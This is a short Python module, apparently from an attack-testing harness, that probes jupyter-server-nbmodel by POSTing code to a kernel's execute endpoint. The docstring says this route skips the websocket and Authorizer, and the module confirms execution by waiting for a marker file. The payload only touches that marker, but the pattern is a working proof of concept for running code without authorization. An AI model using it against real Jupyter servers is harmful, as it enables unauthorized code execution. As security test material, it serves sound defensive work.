"""jupyter-server-nbmodel's address: code in a POST, past websocket and Authorizer. Here `rogue` serves it (plain)."""

from __future__ import annotations

from pathlib import Path

from attack_house import Attacker, await_mark, touch

NEEDS = ("own",)
CAUSES = {"no_such_address", "closed"}


def strike(person: Attacker, mark: Path, own: str) -> bool:
    status, _ = person.request("POST", f"/api/kernels/{own}/execute", {"kernel_id": own, "code": touch(mark)})
    if status < 300:
        await_mark(mark, "the code in a POST")
    return status < 300
